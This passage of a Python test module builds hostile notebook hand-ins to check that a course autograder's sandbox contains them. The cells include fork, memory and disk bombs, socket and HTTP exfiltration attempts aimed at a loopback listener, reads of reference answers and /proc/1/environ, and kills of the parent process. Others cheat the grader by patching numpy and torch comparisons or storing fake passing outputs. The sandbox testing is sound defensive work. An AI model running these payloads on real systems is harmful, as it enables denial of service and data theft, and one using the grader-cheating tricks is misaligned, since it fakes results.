"""The hostile corpus: hand-ins that attack or break the grader, each with the verdict it must get.

    hand_ins = write_corpus(folder, targets)     # zips named by the sheet rule, plus manifest.csv

Most attacks are the sheet 02 master with one cell added or replaced, so "the answers defined so far" have
exact known points (the master scores FULL). The host paths an attack aims at (the repo, a decoy gradebook,
a loopback listener, /tmp/pwned-<token>, ...) come in as `Targets` and are written into the attack's code.
Attack cells that try to get out end with a RuntimeError listing what each attempt got ("... -- end of
attempts"), so the feedback shows the attempt really ran; whether it was contained is decided on the host.
All names are invented.
"""

from __future__ import annotations

import copy
import csv
import io
import re
import stat
import struct
import textwrap
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

import nbformat

from submissions.make_examples import Member, as_hand_in, make_zip, notebook_bytes, zip_name
from tests.conftest import REPO

MASTER = REPO / "reference" / "notebooks" / "sheet02_master.ipynb"
HANDED_IN = "2025-01-29T20:00:00+01:00"  # before the sheet 02 deadline: no lateness in any verdict
MAIN_FILE = "sheet02.ipynb"

# Automatic points per question of the sheet 02 rubric; the master scores all of them (7.5, 3g is a bonus).
FULL: Mapping[str, float] = {"1b": 2.0, "1c": 0.5, "3c": 2.0, "3d": 1.0, "3g": 2.0}
ZERO: Mapping[str, float] = {question: 0.0 for question in FULL}
# The master's solution cells, by their grader id, in notebook order.
SOLUTION_CELLS = {"1b": "code1b", "1c": "code1c", "3c": "code3c", "3d": "code3d", "3g": "code3g"}


def up_to(question: str) -> dict[str, float]:
    """The points of the master's answers up to and including `question`'s cell; later ones are lost."""
    order = list(FULL)
    return {q: FULL[q] if order.index(q) <= order.index(question) else 0.0 for q in order}


def without(*questions: str) -> dict[str, float]:
    return {q: 0.0 if q in questions else p for q, p in FULL.items()}


@dataclass(frozen=True)
class Targets:
    """Host things the attacks aim at; none of them may be reached."""

    repo: Path
    token: str  # makes every file an attack tries to create unique to this run
    port: int  # a loopback TCP listener (and a UDP socket) the test watches
    unix_name: str  # an abstract unix socket the test listens on
    decoy_gradebook: Path
    hand_ins: Path
    out: Path
    work_tmp: Path  # where the runner makes the workers' folders (the test points tempfile there)
    secret: str  # a value the test puts into its own environment; it must not reach student code

    def forbidden_paths(self) -> list[Path]:
        """Files that the write attacks try to create on the host: none may exist after the batch."""
        name = f"pwned-{self.token}"
        return [Path("/tmp") / name, Path("/var/tmp") / name, Path("/dev/shm") / name, Path.home() / name,
                self.repo / name, self.repo / "reference" / f"{name}.py", self.hand_ins / name,
                self.out / name, self.work_tmp / name, self.work_tmp.parent / name,
                self.decoy_gradebook.parent / name, Path("/tmp") / f"{name}-zip-abs",
                self.hand_ins.parent / f"{name}-zip-slip", self.out / f"{name}-zip-slip"]


@dataclass(frozen=True)
class Verdict:
    """What grading one hand-in must give."""

    points: Mapping[str, float]  # exact automatic points per question
    flags: frozenset[str] = frozenset()  # exactly these flag codes...
    maybe_flags: frozenset[str] = frozenset()  # ...plus possibly these (which limit strikes first is the kernel's)
    error: str | None = None  # the hand-in is not graded, and its error says this
    # The one failed cell (cells "not run" after an exit aside): one of these statuses, its error holding the
    # fragment; None: no cell may fail.
    cell: tuple[frozenset[str], str] | None = None
    note: str | None = None  # a fragment of the record's notes
    cells_may_fail: bool = False  # with cell=None: a failed cell is allowed (the kernel picks whom to kill)


@dataclass(frozen=True)
class HandIn:
    case: str
    attack: str  # what it does, in one line
    file_name: str
    content: bytes
    verdict: Verdict


def _failed(statuses: str, fragment: str = "") -> tuple[frozenset[str], str]:
    return frozenset(statuses.split()), fragment


# --- building hand-ins -----------------------------------------------------------------------------------------

FIRST_NAMES = ["Mallory", "Trudy", "Oscar", "Sybil", "Wendy", "Victor", "Peggy", "Walter", "Zelda", "Imogen",
               "Bertil", "Odette", "Casimir"]
SURNAMES = ["Quist", "Varga", "Oyelaran", "Brandtner", "Kettunen", "Moreau", "Lindgren", "Abernathy", "Castellano",
            "Dufresne", "Halvorsen", "Ishikawa", "Jovanovic", "Kowalczyk", "Marchetti", "Nakamura", "Okonkwo"]


class _Teams:
    """Invented two-person teams with unique ids, so no flag comes from the team or the name."""

    def __init__(self) -> None:
        self.count = 0

    def next(self) -> list[Member]:
        team = []
        for _ in range(2):
            k = self.count
            self.count += 1
            first, last = FIRST_NAMES[k % len(FIRST_NAMES)], SURNAMES[k % len(SURNAMES)]
            team.append(Member(f"{first} {last}", str(1_000_001 + k), f"{first.lower()}.{last.lower()}@example.org"))
        return team


def _master() -> nbformat.NotebookNode:
    return nbformat.read(str(MASTER), as_version=4)


def _cell_position(master: nbformat.NotebookNode, grader_id: str) -> int:
    for position, cell in enumerate(master.cells):
        if cell.get("metadata", {}).get("grader", {}).get("id") == grader_id:
            return position
    raise LookupError(f"{MASTER.name} has no cell with grader id {grader_id!r}")


def master_notebook(team: list[Member], *, after: Mapping[str, list[str]] | None = None,
                    replace: Mapping[str, str] | None = None, first: list[str] | None = None) -> nbformat.NotebookNode:
    """The master as `team` hands it in, with code cells added after questions' cells, replaced, or put first.

    after: question id ("1c") -> cells inserted right after that question's solution cell.
    replace: question id -> the new source of that question's solution cell.
    first: cells inserted before the first code cell.
    """
    master = _master()
    positions = {q: _cell_position(master, grader_id) for q, grader_id in SOLUTION_CELLS.items()}
    notebook = as_hand_in(master, team)
    for question, source in (replace or {}).items():
        notebook.cells[positions[question]].source = _code(source)
    inserts = [(positions[q] + 1, cells) for q, cells in (after or {}).items()]
    if first:
        inserts.append((positions["1b"], first))
    for position, cells in sorted(inserts, reverse=True):
        notebook.cells[position:position] = [nbformat.v4.new_code_cell(_code(c)) for c in cells]
    return notebook


def _code(source: str) -> str:
    return textwrap.dedent(source).strip() + "\n"


def _zip_of(notebook: nbformat.NotebookNode) -> bytes:
    return make_zip({MAIN_FILE: notebook_bytes(notebook)})


@dataclass
class _RawEntry:
    """A zip entry written byte by byte, so its header may say what a real zip tool never would."""

    name: str
    data: bytes  # as stored (already compressed when method is deflate)
    crc: int
    size: int  # the uncompressed size the headers declare
    method: int = zipfile.ZIP_STORED
    mode: int = stat.S_IFREG | 0o644


def _stored(name: str, data: bytes, mode: int = stat.S_IFREG | 0o644) -> _RawEntry:
    return _RawEntry(name, data, zlib.crc32(data), len(data), zipfile.ZIP_STORED, mode)


def _raw_zip(entries: list[_RawEntry]) -> bytes:
    """A zip archive from raw entries (no zip64: every size must fit 32 bits)."""
    body, central = io.BytesIO(), io.BytesIO()
    dos_time, dos_date = (12 << 11), ((2025 - 1980) << 9) | (1 << 5) | 27
    for entry in entries:
        name = entry.name.encode("utf-8")
        offset = body.tell()
        body.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, entry.method, dos_time, dos_date,
                               entry.crc, len(entry.data), entry.size, len(name), 0))
        body.write(name)
        body.write(entry.data)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, (3 << 8) | 20, 20, 0x800, entry.method,
                                  dos_time, dos_date, entry.crc, len(entry.data), entry.size, len(name), 0, 0, 0,
                                  0, entry.mode << 16, offset))
        central.write(name)
    directory = central.getvalue()
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory), body.tell(), 0)
    return body.getvalue() + directory + end


ZEROS_BYTES = 2**31  # 2 GB
_ZEROS_CHUNK = 2**24


def zeros_deflated() -> tuple[bytes, int]:
    """2 GB of zeros as a raw deflate stream of about 2 MB, and its CRC-32.

    After a full flush the compressor starts from scratch, so every 16 MB of zeros compresses to the same
    bytes: one block, repeated, then an empty final block.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(_ZEROS_CHUNK)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(ZEROS_BYTES // _ZEROS_CHUNK):
        crc = zlib.crc32(chunk, crc)
    return block * (ZEROS_BYTES // _ZEROS_CHUNK) + b"\x03\x00", crc


# --- the attacks -------------------------------------------------------------------------------------------------

# Cells that try to get out: each attempt is recorded, and the cell always fails with the list, so the
# feedback shows what every attempt got. The marker comes last: feedback keeps the end of long errors.
_ATTEMPTS = '''
    outcomes = []
    def attempt(label, action):
        try:
            outcomes.append(f"{label}: got {str(action())[:60]!r}")
        except BaseException as exc:
            outcomes.append(f"{label}: {type(exc).__name__}: {exc}")
'''
_CONTAINED = 'raise RuntimeError(" | ".join(outcomes) + " -- end of attempts")'


def _escape_cell(body: str) -> str:
    return _code(_ATTEMPTS) + _code(body) + _CONTAINED + "\n"


# A cell that fails if anything but the sandbox's init and the worker still runs (zombies aside).
PROCESSES_LEFT = """
    import os
    def alive(pid):
        try:
            with open(f"/proc/{pid}/stat") as handle:
                return handle.read().rsplit(")", 1)[1].split()[0] != "Z"
        except OSError:
            return False  # ended while we looked
    left = [p for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, os.getpid()) and alive(p)]
    assert not left, f"{len(left)} processes are still running"
"""

# Writes frames, or what looks like their start, onto every descriptor the worker could be talking on.
_TO_EVERY_FD = """
    import json, os, struct
    def frame(payload):
        return struct.pack(">I", len(payload)) + payload
    def to_every_fd(data, repeat=1):
        for fd in range(3, 64):
            try:
                for _ in range(repeat):
                    os.write(fd, data)
            except OSError:
                pass
"""

WRONG_ANSWERS = {
    "1b": "def forget_gate_delta(net_phi, zeta, s_prev):\n    return 0.0",
    "1c": "bidirectional_online_feasible = True",
    "3c": "def kl_discrete(p, q):\n    return 0.0\n\nP = [0.5, 0.5]\nQ = [0.5, 0.5]",
    "3d": "def reparameterize(mu, log_var, eps):\n    return mu",
    "3g": "def kl_gaussian_std_normal(mu, Sigma):\n    return 0.0",
}


def build_corpus(targets: Targets, zeros: tuple[bytes, int]) -> list[HandIn]:
    teams = _Teams()
    hand_ins: list[HandIn] = []

    def add(case: str, attack: str, verdict: Verdict, *, notebook: nbformat.NotebookNode | None = None,
            content: bytes | None = None) -> None:
        """A hand-in of the team drawn last (by master(), or directly for hand-ins without a notebook)."""
        if content is None:
            assert notebook is not None
            content = _zip_of(notebook)
        hand_ins.append(HandIn(case, attack, zip_name(current), content, verdict))

    def master(**changes) -> nbformat.NotebookNode:
        nonlocal current
        current = teams.next()
        return master_notebook(current, **changes)

    current: list[Member] = []
    t = targets
    pwned = f"pwned-{t.token}"

    # Controls: graded in the same batch as the attacks, they must keep their exact grades.
    add("control_full", "the master, unchanged", Verdict(FULL), notebook=master())
    partial_3d = _master_cell_source("3d").replace("torch.exp(0.5 * log_var)", "torch.exp(log_var)") \
        .replace("np.exp(0.5 * np.asarray(log_var))", "np.exp(np.asarray(log_var))")
    assert "0.5" not in partial_3d, "the master's 3d cell changed: update the control's mistake"
    add("control_partial", "the master with the variance used for the standard deviation in 3d",
        Verdict(without("3d")), notebook=master(replace={"3d": partial_3d}))

    # --- cells that never end, or end the process -------------------------------------------------------------
    add("infinite_loop", "a cell that never ends",
        Verdict(FULL, frozenset({"timeout"}), cell=_failed("timeout")),
        notebook=master(after={"1c": ["while True:\n    pass"]}))
    add("alarm_ignored", "ignores and blocks SIGALRM, then loops: only the runner's hard kill stops it",
        Verdict(FULL, frozenset({"timeout"}), cell=_failed("timeout")),
        notebook=master(after={"1c": ["""
            import signal
            signal.signal(signal.SIGALRM, signal.SIG_IGN)
            signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
            signal.setitimer(signal.ITIMER_REAL, 0)
            while True:
                pass
        """]}))
    add("timeout_swallowed", "catches every exception, including the worker's timeout, inside its loop",
        Verdict(FULL, frozenset({"timeout"}), cell=_failed("timeout")),
        notebook=master(after={"1c": ["""
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
        """]}))
    add("uninterruptible", "a regular expression that backtracks for hours inside C code, deaf to signals",
        Verdict(FULL, frozenset({"timeout"}), cell=_failed("timeout")),
        notebook=master(after={"1c": ["import re\nre.match(r'(a+)+$', 'a' * 64 + 'b')"]}))
    add("stop_self", "sends itself SIGSTOP",
        Verdict(FULL, frozenset({"timeout"}), cell=_failed("timeout")),
        notebook=master(after={"1c": ["import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"]}))
    add("sys_exit", "sys.exit() after 3c",
        Verdict(up_to("3c"), frozenset({"crash"}), cell=_failed("exit", "exit")),
        notebook=master(after={"3c": ["import sys\nsys.exit()"]}))
    add("builtin_exit", "exit() after 3c",
        Verdict(up_to("3c"), frozenset({"crash"}), cell=_failed("exit", "exit")),
        notebook=master(after={"3c": ["exit()"]}))
    add("os_exit", "os._exit(0) after 3c",
        Verdict(up_to("3c"), frozenset({"crash"}), cell=_failed("exit", "ended the process")),
        notebook=master(after={"3c": ["import os\nos._exit(0)"]}))
    add("exit_in_call", "the functions of 1b and 3c end the worker on every call (os._exit, sys.exit)",
        Verdict({**without("1b"), "3c": 1.0}, maybe_flags=frozenset({"crash"})),
        notebook=master(after={"1b": ["""
            import os, sys
            def forget_gate_delta(net_phi, zeta, s_prev):
                if len(zeta) == 3:
                    sys.exit("no grading today")
                os._exit(0)
        """], "3c": ["""
            import os
            def kl_discrete(p, q):
                os._exit(0)
        """]}))

    # --- resources ---------------------------------------------------------------------------------------------
    add("memory_bomb", "allocates 256 MB blocks (untouched pages) until the data limit stops it",
        Verdict(FULL, frozenset({"memory"}), cell=_failed("memory")),
        notebook=master(after={"1c": ["""
            def grow():
                blocks = []
                while True:
                    blocks.append(bytes(256 * 2**20))
            grow()
        """]}))
    add("memory_bomb_touched", "fills 256 MB numpy arrays until a limit stops it (the data limit, or the clock)",
        Verdict(FULL, maybe_flags=frozenset({"memory", "timeout"}), cell=_failed("memory timeout")),
        notebook=master(after={"1c": ["""
            import numpy as np
            def grow():
                blocks = []
                while True:
                    blocks.append(np.ones(2**25))
            grow()
        """]}))
    add("memory_bomb_children", "four children that each grow until the group's memory limit kills one",
        Verdict(FULL, maybe_flags=frozenset({"memory", "crash", "timeout"}), cells_may_fail=True),
        notebook=master(after={"1c": ["""
            import os
            children = []
            for _ in range(4):
                pid = os.fork()
                if pid == 0:
                    blocks = []
                    try:
                        while True:
                            blocks.append(bytearray(64 * 2**20))
                    finally:
                        os._exit(0)
                children.append(pid)
            for pid in children:
                os.waitpid(pid, 0)
        """]}))
    add("fork_bomb", "forks until fork fails, in every process; a later cell counts the processes left",
        Verdict(FULL, cell=_failed("error", "BlockingIOError")),
        notebook=master(after={"1c": ["import os\nwhile True:\n    os.fork()", PROCESSES_LEFT]}))
    add("fork_bomb_spinning", "forks forever, ignoring failures, so every process spins; then counts them",
        Verdict(FULL, frozenset({"timeout"}), cell=_failed("timeout")),
        notebook=master(after={"1c": ["""
            import os
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        """, PROCESSES_LEFT]}))
    add("disk_bomb", "fills its folder past the disk quota and writes one file past the size limit",
        Verdict(FULL, cell=_failed("error", "end of attempts")),
        notebook=master(after={"1c": [_escape_cell("""
            import os
            def fill(folder):
                written = 0
                for number in range(64):
                    with open(os.path.join(folder, f"fill-{number}"), "wb") as handle:
                        for _ in range(8):
                            handle.write(bytes(2**23))
                            written += 2**23
                return f"{written // 2**20} MB"
            def one_big_file():
                with open("big.bin", "wb") as handle:
                    for _ in range(20):
                        handle.write(bytes(2**23))
            attempt("one 160 MB file", one_big_file)
            attempt("fill the hand-in folder", lambda: fill("."))
            for name in os.listdir("."):
                if name.startswith("fill-") or name == "big.bin":
                    os.remove(name)
        """)]}))
    add("print_flood", "prints 50 MB and writes more straight to fds 1 and 2",
        Verdict(FULL),
        notebook=master(after={"1c": ["""
            import os, sys
            line = "All tests passed! " * 58254
            for _ in range(50):
                print(line)
            for fd in (1, 2):
                for _ in range(5):
                    os.write(fd, line.encode())
            sys.__stdout__.write(line)
            sys.__stderr__.write(line)
        """]}))

    # --- getting out ------------------------------------------------------------------------------------------
    add("network", "connects to a loopback listener of the host (TCP, UDP, abstract unix socket) and the web",
        Verdict(FULL, cell=_failed("error", "end of attempts")),
        notebook=master(after={"1c": [_escape_cell(f"""
            import socket, urllib.request
            def tcp(host, family):
                with socket.socket(family, socket.SOCK_STREAM) as s:
                    s.settimeout(2)
                    s.connect((host, {t.port}))
                    s.sendall(b"stolen answers")
                    return "connected"
            def udp():
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                    return s.sendto(b"stolen answers", ("127.0.0.1", {t.port}))
            def unix():
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                    s.settimeout(2)
                    s.connect({t.unix_name!r})
                    s.sendall(b"stolen answers")
                    return "connected"
            attempt("tcp 127.0.0.1", lambda: tcp("127.0.0.1", socket.AF_INET))
            attempt("tcp localhost", lambda: tcp("localhost", socket.AF_INET))
            attempt("tcp ::1", lambda: tcp("::1", socket.AF_INET6))
            attempt("udp 127.0.0.1", udp)
            attempt("abstract unix socket", unix)
            attempt("http", lambda: urllib.request.urlopen("http://example.org/", timeout=2).status)
            attempt("dns", lambda: socket.getaddrinfo("example.org", 80))
        """)]}))
    add("steal_reference", "answers only with what it can steal: the reference, the rubric, other hand-ins",
        Verdict(ZERO, cell=_failed("error", "end of attempts")),
        notebook=master(replace={q: "pass" for q in FULL}, after={"3g": [_escape_cell(f"""
            import glob, importlib, os, sys
            repo = {str(t.repo)!r}
            depth = "../" * 12
            read = lambda path: open(path, encoding="utf-8", errors="replace").read()
            attempt("import reference", lambda: importlib.import_module("reference.sheet02"))
            attempt("import rubrics", lambda: importlib.import_module("rubrics"))
            attempt("rubric, absolute path", lambda: read(repo + "/rubrics/sheet02.yaml"))
            attempt("reference, absolute path", lambda: read(repo + "/reference/sheet02.py"))
            attempt("model answers", lambda: read(repo + "/reference/answers/sheet02.yaml"))
            attempt("master notebook", lambda: read(repo + "/reference/notebooks/sheet02_master.ipynb"))
            attempt("reference, relative path", lambda: read(depth + repo.lstrip("/") + "/reference/sheet02.py"))
            attempt("reference next to the grader package", lambda: read(
                os.path.join(os.path.dirname(importlib.import_module("grader").__file__), "..", "reference",
                             "sheet02.py")))
            attempt("reference on sys.path", lambda: [p for p in sys.path
                                                     if os.path.exists(os.path.join(p, "reference"))] or 1 / 0)
            attempt("gradebook", lambda: read({str(t.decoy_gradebook)!r}))
            attempt("other hand-ins", lambda: os.listdir({str(t.hand_ins)!r}))
            attempt("the output folder", lambda: os.listdir({str(t.out)!r}))
            attempt("the grader's environment", lambda: [k for k, v in os.environ.items()
                                                         if {t.secret!r} in v] or 1 / 0)
            attempt("pid 1's environment", lambda: ({t.secret!r} in read("/proc/1/environ")) or 1 / 0)
            attempt("reference through pid 1's root", lambda: read("/proc/1/root" + repo + "/reference/sheet02.py"))
            attempt("home", lambda: os.listdir(os.path.expanduser("~root")))
            stolen = [line for line in outcomes if ": got " in line]
            if stolen:
                for steal in (lambda: exec(read(repo + "/reference/sheet02.py"), globals()),
                              lambda: exec("from reference.sheet02 import *", globals())):
                    try:
                        steal()
                    except BaseException:
                        pass
                bidirectional_online_feasible = "no"
                P, Q = [0.3, 0.7], [0.5, 0.5]
                outcomes.append("ESCAPED")
        """)]}))
    forbidden = [str(p) for p in targets.forbidden_paths()]
    add("write_outside", "writes into the repo, the rubric, the gradebook, /tmp, ~, the hand-ins and the output",
        Verdict(FULL, cell=_failed("error", "end of attempts")),
        notebook=master(after={"1c": [_escape_cell(f"""
            import os
            def write(path, mode="w"):
                with open(path, mode) as handle:
                    handle.write("pwned")
                return path
            for path in {forbidden!r}:
                attempt("write " + path, lambda: write(path))
            for depth in range(1, 6):
                attempt(f"write {{depth}} levels up", lambda: write("../" * depth + {pwned!r}))
            attempt("append to the rubric", lambda: write({str(t.repo / "rubrics" / "sheet02.yaml")!r}, "a"))
            attempt("overwrite the reference", lambda: write({str(t.repo / "reference" / "sheet02.py")!r}))
            attempt("append to the gradebook", lambda: write({str(t.decoy_gradebook)!r}, "a"))
            attempt("a link to /tmp", lambda: (os.symlink("/tmp", "to-tmp"), write("to-tmp/" + {pwned!r})))
            attempt("its own folder (thrown away)", lambda: write("pwned-local-" + {t.token!r}))
        """)]}))
    add("kill_parent", "SIGKILL to its parent and to every process it can see (kill -1)",
        Verdict(FULL, cell=_failed("error", "still alive")),
        notebook=master(after={"1c": ["""
            import os
            os.kill(os.getppid(), 9)
            try:
                os.kill(-1, 9)
            except OSError:
                pass
            raise RuntimeError(f"still alive, parent {os.getppid()}")
        """]}))
    add("kill_group", "SIGKILL to its own process group",
        Verdict(FULL, frozenset({"crash"}), cell=_failed("crashed")),
        notebook=master(after={"1c": ["import os\nos.killpg(0, 9)"]}))
    add("segfault", "dereferences a null pointer",
        Verdict(FULL, frozenset({"crash"}), cell=_failed("crashed")),
        notebook=master(after={"1c": ["import ctypes\nctypes.string_at(0)"]}))

    # --- lying to the grader -----------------------------------------------------------------------------------
    add("monkeypatch", "patches numpy, torch, math and builtins comparisons, then gives wrong answers",
        Verdict(ZERO), notebook=master(replace=WRONG_ANSWERS, first=["""
            import builtins, math
            import numpy as np
            import torch
            always = lambda *args, **kwargs: True
            silent = lambda *args, **kwargs: None
            np.allclose = np.isclose = np.array_equal = np.array_equiv = always
            np.testing.assert_allclose = np.testing.assert_array_equal = np.testing.assert_almost_equal = silent
            torch.allclose = torch.equal = always
            torch.testing.assert_close = silent
            math.isclose = always
            builtins.abs = lambda x: 0
            builtins.all = builtins.any = always
            builtins.isinstance = always
            builtins.float = lambda *args: 0.0
        """]))
    add("stored_outputs", "wrong answers with stored outputs and metadata claiming that all tests passed",
        Verdict(ZERO), notebook=_faked_outputs(master(replace=WRONG_ANSWERS)))
    add("liars", "returns objects that lie: __eq__, __float__, __array__, a numpy subclass, huge or recursive values",
        Verdict(ZERO), notebook=master(replace={
            "1b": """
                class AlwaysEqual:
                    __eq__ = __le__ = __ge__ = lambda self, other: True
                    __ne__ = __lt__ = __gt__ = lambda self, other: False
                    __hash__ = object.__hash__
                    def __float__(self):
                        return 0.0
                    def __array__(self, *args, **kwargs):
                        import numpy
                        return numpy.float64(0.0)
                def forget_gate_delta(net_phi, zeta, s_prev):
                    return AlwaysEqual()
            """,
            "1c": """
                class Agreeable(str):
                    __eq__ = lambda self, other: True
                    __hash__ = str.__hash__
                    def lower(self):
                        return "no"
                    def strip(self, *args):
                        return "no"
                    def __str__(self):
                        return "no"
                bidirectional_online_feasible = Agreeable("yes")
            """,
            "3c": """
                import numpy as np
                class Liar(float):
                    __eq__ = lambda self, other: True
                    __hash__ = float.__hash__
                    def __float__(self):
                        return 0.0
                class Shady(np.ndarray):
                    def __array_ufunc__(self, *args, **kwargs):
                        return np.float64(1.0)
                    def sum(self, *args, **kwargs):
                        return 1.0
                    __eq__ = lambda self, other: True
                def kl_discrete(p, q):
                    return Liar(-1.0)
                P = np.asarray([2.0, -1.0]).view(Shady)
                Q = lambda: [0.5, 0.5]
            """,
            "3d": """
                def reparameterize(mu, log_var, eps):
                    return (value for value in mu)
            """,
            "3g": """
                import time
                import numpy as np
                import torch
                class SlowArray:
                    def __array__(self, *args, **kwargs):
                        while True:
                            time.sleep(1)
                class SlowTensor(torch.Tensor):
                    @classmethod
                    def __torch_function__(cls, func, types, args=(), kwargs=None):
                        while True:
                            time.sleep(1)
                def kl_gaussian_std_normal(mu, Sigma):
                    if isinstance(mu, torch.Tensor):
                        return torch.zeros(()).as_subclass(SlowTensor)
                    k = len(mu)
                    if k == 1:
                        loop = []
                        loop.append(loop)
                        return loop
                    if k == 2:
                        return np.broadcast_to(np.float64(0.0), (10**5, 10**5))
                    if k == 3:
                        return SlowArray()
                    if k == 512:
                        return np.zeros(3_000_000)
                    if k == 6:
                        return [0.0] * 5_000_000
                    loop = {"a": {}}
                    loop["a"]["b"] = loop
                    return loop
            """}))
    add("odd_values", "right answers as np.longdouble, big-endian and strided arrays; 3g a million long strings",
        Verdict({**FULL, "3g": 0.0}),
        notebook=master(after={"3g": ["""
            import numpy as np
            import torch
            _right = {f.__name__: f for f in (forget_gate_delta, kl_discrete, reparameterize)}
            def forget_gate_delta(*args):
                result = _right["forget_gate_delta"](*args)
                return result if isinstance(result, torch.Tensor) else np.longdouble(result)
            def kl_discrete(p, q):
                result = _right["kl_discrete"](p, q)
                return result if isinstance(result, torch.Tensor) else np.asarray(result, dtype=">f8")
            def reparameterize(mu, log_var, eps):
                result = _right["reparameterize"](mu, log_var, eps)
                return result if isinstance(result, torch.Tensor) else np.repeat(result, 2)[::2]
            def kl_gaussian_std_normal(mu, Sigma):
                return ["All tests passed. " * 58254] * 1_000_000
        """]}))
    add("patched_worker_builtins", "after its answers, replaces most builtins and the import machinery with liars",
        Verdict(FULL), notebook=master(after={"3g": ["""
            import builtins
            real_import = builtins.__import__
            def refuse(name, *args, **kwargs):
                # numpy and the wire's modules are what a worker might import while answering; torch stays
                # allowed, as torch's own C++ code imports its submodules through __import__.
                if name.split(".")[0] in ("numpy", "json", "base64", "struct", "grader"):
                    raise ImportError(f"no {name} for you")
                return real_import(name, *args, **kwargs)
            nothing = lambda *args, **kwargs: None
            builtins.__import__ = refuse
            builtins.callable = builtins.hasattr = lambda *args: False
            builtins.type = builtins.int = lambda *args: 0
            builtins.list = builtins.tuple = builtins.dict = builtins.set = builtins.iter = builtins.next = nothing
            builtins.str = builtins.repr = lambda *args: "All tests passed"
            builtins.bool = builtins.any = builtins.all = builtins.issubclass = lambda *args: True
            builtins.sum = builtins.min = builtins.max = builtins.round = lambda *args, **kwargs: 0
            builtins.range = builtins.enumerate = builtins.zip = builtins.sorted = lambda *args, **kwargs: []
            builtins.print = builtins.open = lambda *args, **kwargs: 1 / 0
        """]}))
    add("hijack_output", "replaces sys.stdout/stderr and the traceback module, then fails a cell",
        Verdict(FULL, cell=_failed("error", "after the hijack")),
        notebook=master(after={"1c": ["""
            import sys, traceback
            class Broken:
                def write(self, text):
                    raise OSError("no output")
                def flush(self):
                    raise OSError("no output")
            sys.stdout = sys.stderr = sys.__stdout__ = sys.__stderr__ = Broken()
            def explode(*args, **kwargs):
                raise RuntimeError("the traceback module is gone")
            traceback.extract_tb = traceback.format_list = traceback.format_exception_only = explode
            traceback.format_exception = traceback.format_tb = explode
        """], "3g": ["raise ValueError('a failing cell after the hijack')"]}))
    add("protocol_junk", "writes junk to every file descriptor the worker could be talking on",
        Verdict(FULL, frozenset({"crash"}), cell=_failed("crashed")),
        notebook=master(after={"1c": ["""
            import os
            for fd in range(3, 64):
                try:
                    os.write(fd, b"\\x00\\x00\\x00\\x0bAll passed!" * 100)
                except OSError:
                    pass
        """]}))
    add("protocol_closed", "closes every file descriptor above 2",
        Verdict(FULL, frozenset({"crash"}), cell=_failed("crashed")),
        notebook=master(after={"1c": ["import os\nos.closerange(3, 4096)"]}))
    add("protocol_flood", "floods the channel with well-formed frames that are out of turn",
        Verdict(FULL, frozenset({"crash"}), cell=_failed("crashed", "out of turn")),
        notebook=master(after={"1c": [_code(_TO_EVERY_FD) + _code("""
            noise = frame(json.dumps({"event": "cell_end", "index": 10**6, "status": "ok"}).encode())
            to_every_fd(noise * 1000, repeat=10**6)
        """)]}))
    add("protocol_huge_frame", "one 60 MB frame of twenty million empty lists, cheap to send, costly to parse",
        # Refused before parsing ("larger than any honest reply", a crash) when the runner reads it first; when the
        # write blocks on another descriptor first, the cell's time limit ends it (seen once in ~10 full runs).
        # Either way nothing is parsed (the growth bound checks that) and the other answers keep their points.
        Verdict(FULL, maybe_flags=frozenset({"crash", "timeout"}), cell=_failed("crashed timeout", "")),
        notebook=master(after={"1c": [_code(_TO_EVERY_FD) + _code("""
            to_every_fd(frame(b"[" + b"[]," * 20_000_000 + b"[]]"))
        """)]}))
    add("protocol_deep_frame", "a frame nested 100,000 levels deep",
        Verdict(FULL, frozenset({"crash"}), cell=_failed("crashed", "not a valid frame")),
        notebook=master(after={"1c": [_code(_TO_EVERY_FD) + _code("""
            to_every_fd(frame(b"[" * 100_000 + b"]" * 100_000))
        """)]}))
    add("unicode_junk", "error text, output and answers with lone surrogates, NULs, terminal escapes, RTL marks",
        Verdict({**FULL, "1c": 0.0}, cell=_failed("error", "lone")),
        notebook=master(replace={"1c": 'bidirectional_online_feasible = "maybe\\udc80\\x00"'}, after={"1c": ["""
            import sys
            junk = "\\ud800 \\x00 \\x1b[2J\\x1b[31m \\u202e \\udfff"
            print(junk * 100)
            sys.stdout.write(junk)
            get_ipython().run_line_magic("matplotlib", junk)
            raise RuntimeError(junk + " lone surrogates and friends")
        """]}))
    add("signals_and_exit_hooks", "its own SIGALRM handler, atexit handlers, a thread that never ends, and "
        "a 3g function that hangs on torch input",
        Verdict({**FULL, "3g": 1.0}, maybe_flags=frozenset({"timeout"})),
        notebook=master(after={"3g": ["""
            import atexit, signal, threading, time
            def forever(*args):
                while True:
                    time.sleep(1)
            atexit.register(forever)
            signal.signal(signal.SIGALRM, lambda *args: None)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            threading.Thread(target=forever).start()
            _kl_gaussian_std_normal = kl_gaussian_std_normal
            def kl_gaussian_std_normal(mu, Sigma):
                if isinstance(mu, torch.Tensor):
                    forever()
                return _kl_gaussian_std_normal(mu, Sigma)
        """]}))
    add("del_loops", "results and leftovers whose __del__ never returns",
        Verdict(FULL),
        notebook=master(after={"3c": ["""
            class Sticky:
                def __del__(self):
                    while True:
                        pass
            _kl_discrete = kl_discrete
            def kl_discrete(p, q):
                if len(p) == 2 and p[0] == 0:
                    leftover = Sticky()
                    leftover.me = leftover  # a reference cycle: freed whenever the garbage collector runs
                return _kl_discrete(p, q)
        """]}))

    # --- broken notebooks --------------------------------------------------------------------------------------
    current = teams.next()
    add("not_json", "the notebook is not JSON",
        Verdict(ZERO, frozenset({"broken_notebook"}), error="not a notebook"),
        content=make_zip({MAIN_FILE: b'{"cells": [ this is not JSON'}))
    current = teams.next()
